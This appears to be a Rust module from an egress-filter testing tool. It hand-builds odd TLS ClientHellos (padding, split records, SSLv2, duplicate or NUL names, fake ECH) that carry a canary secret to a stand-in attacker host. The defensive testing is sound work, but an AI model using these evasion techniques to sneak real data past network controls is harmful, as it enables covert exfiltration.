//! ClientHellos made by hand (RFC 8446, section 4.1.2): what no library would send. Each carries the secret in the clear,
//! as a name, as a session's id or in an extension, so that it is told already where the hello arrives.

use std::thread;
use std::time::Duration;

use super::{Ctx, Failed, Run, send, target};
use crate::catalogue::names::{EVIL, GOOD};

const TLS: u16 = 443;
const TLS_1_0: u16 = 0x0301;
const TLS_1_2: u16 = 0x0303;
/// As much as a record holds.
const RECORD: usize = 16_384;
/// Where the name begins in a hello whose first extension it is and that has no session.
const BEFORE_NAME: usize = 58;
const SERVER_NAME: u16 = 0;
const PADDING: u16 = 21;
/// draft-ietf-tls-esni: what hides the rest of a hello, and its form for the outer one.
const ENCRYPTED_CLIENT_HELLO: u16 = 0xfe0d;

pub(super) const CODE: &[(&str, Run)] = &[
    ("tls-long-hello", |c| {
        let padding = extension(PADDING, &[0; 20_000]);
        evil(&records(TLS_1_0, &hello(TLS_1_2, b"", &[names(&[c.name().as_bytes()]), padding]), RECORD))
    }),
    ("tls-records", |c| {
        evil(&records(TLS_1_0, &hello(TLS_1_2, b"", &[names(&[c.name().as_bytes()])]), BEFORE_NAME))
    }),
    ("tls-slow-hello", |c| {
        let mut stream = send::connect((target::EVIL, TLS))?;
        let bytes = records(TLS_1_0, &hello(TLS_1_2, b"", &[names(&[c.name().as_bytes()])]), RECORD);
        for piece in bytes.chunks(bytes.len().div_ceil(8)) {
            std::io::Write::write_all(&mut stream, piece)?;
            thread::sleep(Duration::from_millis(250));
        }
        send::hear(&mut stream)
    }),
    ("tls-1-0", |c| evil(&records(TLS_1_0, &hello(TLS_1_0, b"", &[names(&[c.name().as_bytes()])]), RECORD))),
    ("tls-sslv2", |c| {
        let challenge = format!("{:.<32}", c.canary);
        // A record of SSL 2.0: a CLIENT-HELLO with one cipher and a challenge.
        let body = [&[1, 3, 1, 0, 3, 0, 0, 0, 32, 1, 0, 0x80][..], challenge.as_bytes()].concat();
        evil(&[&[0x80, u8::try_from(body.len()).unwrap_or_default()][..], &body].concat())
    }),
    ("tls-two-names", |c| {
        let both = names(&[GOOD.as_bytes(), c.name().as_bytes()]);
        evil(&records(TLS_1_0, &hello(TLS_1_2, b"", &[both]), RECORD))
    }),
    ("tls-names-twice", |c| {
        let both = [names(&[GOOD.as_bytes()]), names(&[c.name().as_bytes()])];
        evil(&records(TLS_1_0, &hello(TLS_1_2, b"", &both), RECORD))
    }),
    ("tls-address-as-name", |c| session(c, target::EVIL.to_string().as_bytes())),
    ("tls-name-with-nul", |c| session(c, format!("{GOOD}\0.{EVIL}").as_bytes())),
    ("tls-name-with-port", |c| session(c, format!("{GOOD}:443").as_bytes())),
    ("tls-name-below-listed", |c| session(c, format!("{}.{GOOD}", c.canary).as_bytes())),
    ("tls-ech", |c| {
        let hidden = [names(&[format!("public.{EVIL}").as_bytes()]), encrypted(&c.canary)];
        evil(&records(TLS_1_0, &hello(TLS_1_2, b"", &hidden), RECORD))
    }),
    ("tls-ech-listed", |c| {
        let hidden = [names(&[GOOD.as_bytes()]), encrypted(&c.canary)];
        evil(&records(TLS_1_0, &hello(TLS_1_2, b"", &hidden), RECORD))
    }),
];

/// To the attacker's host.
fn evil(bytes: &[u8]) -> Result<String, Failed> {
    send::tcp((target::EVIL, TLS), bytes)
}

/// A hello for a name, the secret in its session's id.
fn session(c: &Ctx, name: &[u8]) -> Result<String, Failed> {
    evil(&records(
        TLS_1_0,
        &hello(TLS_1_2, format!("{:.<32}", c.canary).as_bytes(), &[names(&[name])]),
        RECORD,
    ))
}

fn encrypted(secret: &str) -> Vec<u8> {
    // Outer, HKDF-SHA256 with AES-128-GCM, a configuration's number, a key of 32 bytes, and what is hidden.
    let payload = long(format!("{secret:.<64}").as_bytes());
    extension(ENCRYPTED_CLIENT_HELLO, &[&[0, 0, 1, 0, 1, 7][..], &long(&[9; 32]), &payload].concat())
}

fn names(all: &[&[u8]]) -> Vec<u8> {
    let entries: Vec<u8> = all.iter().flat_map(|name| [&[0][..], &long(name)].concat()).collect();
    extension(SERVER_NAME, &long(&entries))
}

fn extension(kind: u16, data: &[u8]) -> Vec<u8> {
    [&kind.to_be_bytes()[..], &long(data)].concat()
}

/// With its length in two bytes in front.
fn long(data: &[u8]) -> Vec<u8> {
    [&u16::try_from(data.len()).unwrap_or(u16::MAX).to_be_bytes()[..], data].concat()
}

/// The handshake's message.
fn hello(version: u16, session: &[u8], extensions: &[Vec<u8>]) -> Vec<u8> {
    let mut body = version.to_be_bytes().to_vec();
    body.extend([0x5a; 32]);
    body.push(u8::try_from(session.len()).unwrap_or_default());
    body.extend(session);
    // Two ciphers that any server of TLS 1.2 has, and no compression.
    body.extend([0, 4, 0xc0, 0x2b, 0xc0, 0x2f, 1, 0]);
    body.extend(long(&extensions.concat()));
    let length = u32::try_from(body.len()).unwrap_or_default().to_be_bytes();
    [&[1, length[1], length[2], length[3]][..], &body].concat()
}

/// Records of handshake, with so much in each.
fn records(version: u16, message: &[u8], each: usize) -> Vec<u8> {
    let record = |piece: &[u8]| [&[22][..], &version.to_be_bytes(), &long(piece)].concat();
    message.chunks(each).flat_map(record).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn lengths_agree_at_every_depth() {
        let message = hello(TLS_1_2, b"id", &[names(&[b"a.example"])]);
        let bytes = records(TLS_1_0, &message, RECORD);
        assert_eq!(usize::from(u16::from_be_bytes([bytes[3], bytes[4]])), bytes.len() - 5);
        assert_eq!(usize::from(u16::from_be_bytes([bytes[7], bytes[8]])), bytes.len() - 9);
        let message = hello(TLS_1_2, b"", &[names(&[b"a.example"])]);
        assert!(message[BEFORE_NAME..].starts_with(b"a.example"));
        assert_eq!(records(TLS_1_0, &[0; 20], 7).len(), 20 + 3 * 5);
    }
}
